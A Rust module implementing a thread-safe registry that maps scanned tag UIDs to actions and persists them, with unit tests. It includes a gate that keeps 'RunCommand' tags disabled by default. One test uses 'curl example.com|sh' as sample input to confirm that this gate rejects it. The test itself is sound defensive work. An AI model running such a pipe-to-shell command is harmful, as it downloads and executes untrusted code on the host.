//! Tag registry - UID → action mapping shared by the scanner and the HTTP API.
//!
//! # Thread safety
//!
//! - Readers clone an `Arc` snapshot of the current map and never wait on disk I/O
//! - Writers serialize on a gate mutex, build the next map, persist it, and only
//!   then swap it in. A failed save leaves memory untouched, so memory and
//!   storage never diverge.

use super::action::{ActionError, ActionKind, TagAction};
use super::store::{Entries, MemoryStore, RegistryStore, StoreError};
use super::tag::TagUid;
use std::sync::{Arc, Mutex, PoisonError, RwLock};
use thiserror::Error;

#[derive(Error, Debug)]
pub enum RegistryError {
    #[error("Tag {0} is not registered")]
    NotFound(TagUid),
    #[error("{0}")]
    InvalidArgument(String),
    #[error("Failed to persist registry: {0}")]
    Persistence(#[from] StoreError),
}

impl From<ActionError> for RegistryError {
    fn from(e: ActionError) -> Self {
        RegistryError::InvalidArgument(e.to_string())
    }
}

pub struct Registry {
    entries: RwLock<Arc<Entries>>,
    write_gate: Mutex<()>,
    store: Box<dyn RegistryStore>,
    /// Accept `RunCommand` registrations
    allow_commands: bool,
}

impl Registry {
    /// Load the registry from `store`.
    pub fn open(store: impl RegistryStore + 'static) -> Result<Self, RegistryError> {
        let entries = store.load()?;
        log::info!("Registry loaded: {} tags", entries.len());

        Ok(Self {
            entries: RwLock::new(Arc::new(entries)),
            write_gate: Mutex::new(()),
            store: Box::new(store),
            allow_commands: false,
        })
    }

    /// Empty registry over a [`MemoryStore`].
    pub fn in_memory() -> Self {
        Self {
            entries: RwLock::new(Arc::new(Entries::new())),
            write_gate: Mutex::new(()),
            store: Box::new(MemoryStore::new()),
            allow_commands: false,
        }
    }

    /// Allow registering `RunCommand` tags (off by default).
    pub fn allow_commands(mut self, allow: bool) -> Self {
        self.allow_commands = allow;
        if !allow {
            let stored = self
                .snapshot()
                .values()
                .filter(|a| a.kind == ActionKind::RunCommand)
                .count();
            if stored > 0 {
                log::warn!(
                    "{} stored RunCommand tags remain active; new ones cannot be registered",
                    stored
                );
            }
        }
        self
    }

    fn snapshot(&self) -> Arc<Entries> {
        Arc::clone(&self.entries.read().unwrap_or_else(PoisonError::into_inner))
    }

    pub fn lookup(&self, uid: &TagUid) -> Result<TagAction, RegistryError> {
        self.snapshot()
            .get(uid)
            .cloned()
            .ok_or_else(|| RegistryError::NotFound(uid.clone()))
    }

    /// Insert or overwrite the action for `uid` and persist the registry.
    ///
    /// `kind` is a variant name as listed by [`ActionKind::REGISTRABLE`].
    pub fn register(
        &self,
        kind: &str,
        uid: &str,
        alias: Option<&str>,
        parameter: Option<&str>,
    ) -> Result<TagAction, RegistryError> {
        let kind = ActionKind::from_name(kind)?;
        if kind == ActionKind::RunCommand && !self.allow_commands {
            return Err(RegistryError::InvalidArgument(
                "Tag class \"RunCommand\" is disabled (enable allow_commands)".to_string(),
            ));
        }
        let uid = TagUid::parse(uid).map_err(|e| RegistryError::InvalidArgument(e.to_string()))?;
        let action = TagAction::new(kind, uid.clone(), alias, parameter)?;

        let _gate = self.write_gate.lock().unwrap_or_else(PoisonError::into_inner);

        let mut next = Entries::clone(&self.snapshot());
        let replaced = next.insert(uid.clone(), action.clone()).is_some();

        if let Err(e) = self.store.save(&next) {
            log::error!("Registering {} failed, registry unchanged: {}", uid, e);
            return Err(e.into());
        }

        *self.entries.write().unwrap_or_else(PoisonError::into_inner) = Arc::new(next);

        if replaced {
            log::info!("Tag {} re-registered as {}", uid, kind);
        } else {
            log::info!("Tag {} registered as {}", uid, kind);
        }
        Ok(action)
    }

    /// All registered actions in insertion order.
    pub fn list(&self) -> Vec<TagAction> {
        self.snapshot().values().cloned().collect()
    }

    pub fn len(&self) -> usize {
        self.snapshot().len()
    }

    pub fn is_empty(&self) -> bool {
        self.snapshot().is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::store::JsonFileStore;
    use std::io;
    use std::thread;
    use tempfile::TempDir;

    struct BrokenStore;

    impl RegistryStore for BrokenStore {
        fn load(&self) -> Result<Entries, StoreError> {
            Ok(Entries::new())
        }

        fn save(&self, _entries: &Entries) -> Result<(), StoreError> {
            Err(StoreError::Io(io::Error::other("disk full")))
        }
    }

    fn uid(s: &str) -> TagUid {
        TagUid::parse(s).unwrap()
    }

    #[test]
    fn test_register_then_lookup() {
        let registry = Registry::in_memory();
        let stored = registry
            .register("PlayResource", "0a1b2c3d", Some("Kids"), Some("spotify:track:xyz"))
            .unwrap();

        let found = registry.lookup(&uid("0A1B2C3D")).unwrap();
        assert_eq!(found, stored);
        assert_eq!(found.kind, ActionKind::PlayResource);
        assert_eq!(found.alias.as_deref(), Some("Kids"));
        assert_eq!(found.parameter.as_deref(), Some("spotify:track:xyz"));
        assert_eq!(found.scanned, None);
    }

    #[test]
    fn test_lookup_missing() {
        let registry = Registry::in_memory();
        assert!(matches!(
            registry.lookup(&uid("AB")),
            Err(RegistryError::NotFound(u)) if u == uid("AB")
        ));
    }

    #[test]
    fn test_reregister_overwrites() {
        let registry = Registry::in_memory();
        registry.register("Stop", "AB", None, None).unwrap();
        registry.register("PlayResource", "CD", None, Some("a:b")).unwrap();
        registry.register("Volume", "ab", Some("Quiet"), Some("20")).unwrap();

        assert_eq!(registry.len(), 2);
        let entry = registry.lookup(&uid("AB")).unwrap();
        assert_eq!(entry.kind, ActionKind::Volume);
        assert_eq!(entry.parameter.as_deref(), Some("20"));

        // Overwrite keeps the original position
        let order: Vec<_> = registry.list().into_iter().map(|a| a.uid).collect();
        assert_eq!(order, vec![uid("AB"), uid("CD")]);
    }

    #[test]
    fn test_invalid_kind_does_not_mutate() {
        let registry = Registry::in_memory();
        registry.register("Stop", "01", None, None).unwrap();

        let err = registry.register("Teleport", "02", None, None).unwrap_err();
        match err {
            RegistryError::InvalidArgument(msg) => assert!(msg.contains("Teleport")),
            other => panic!("unexpected error: {other:?}"),
        }
        assert!(matches!(
            registry.register("Unknown", "02", None, None),
            Err(RegistryError::InvalidArgument(_))
        ));
        assert!(matches!(
            registry.register("PlayResource", "02", None, None),
            Err(RegistryError::InvalidArgument(_))
        ));
        assert!(matches!(
            registry.register("Stop", "not-hex", None, None),
            Err(RegistryError::InvalidArgument(_))
        ));

        assert_eq!(registry.len(), 1);
    }

    #[test]
    fn test_failed_persist_rolls_back() {
        let registry = Registry::open(BrokenStore).unwrap();
        let err = registry.register("Stop", "01", None, None).unwrap_err();

        assert!(matches!(err, RegistryError::Persistence(_)));
        assert!(registry.is_empty());
        assert!(registry.lookup(&uid("01")).is_err());
    }

    #[test]
    fn test_persists_every_register() {
        let temp_dir = TempDir::new().unwrap();
        let path = temp_dir.path().join("registry.json");

        let registry = Registry::open(JsonFileStore::new(&path))
            .unwrap()
            .allow_commands(true);
        registry.register("Shuffle", "0102", Some("Mix"), None).unwrap();
        registry.register("RunCommand", "0304", None, Some("echo hi")).unwrap();
        drop(registry);

        let reopened = Registry::open(JsonFileStore::new(&path)).unwrap();
        assert_eq!(reopened.len(), 2);
        assert_eq!(reopened.lookup(&uid("0102")).unwrap().alias.as_deref(), Some("Mix"));
    }

    #[test]
    fn test_concurrent_distinct_registrations() {
        let registry = Arc::new(Registry::in_memory());
        let n = 32;

        let handles: Vec<_> = (0..n)
            .map(|i| {
                let registry = Arc::clone(&registry);
                thread::spawn(move || {
                    registry
                        .register("PlayResource", &format!("{:04X}", i), None, Some("x:y"))
                        .unwrap();
                    // Readers run alongside writers
                    let _ = registry.list();
                })
            })
            .collect();

        for h in handles {
            h.join().unwrap();
        }

        assert_eq!(registry.len(), n);
        for i in 0..n {
            assert!(registry.lookup(&uid(&format!("{:04X}", i))).is_ok());
        }
    }

    #[test]
    fn test_run_command_needs_opt_in() {
        let registry = Registry::in_memory();
        let err = registry
            .register("RunCommand", "0A1B2C3D", None, Some("curl example.com|sh"))
            .unwrap_err();
        match err {
            RegistryError::InvalidArgument(msg) => assert!(msg.contains("RunCommand")),
            other => panic!("unexpected error: {other:?}"),
        }
        assert!(registry.is_empty());

        let registry = Registry::in_memory().allow_commands(true);
        let stored = registry
            .register("RunCommand", "0A1B2C3D", None, Some("mpc update"))
            .unwrap();
        assert_eq!(stored.kind, ActionKind::RunCommand);
    }
}
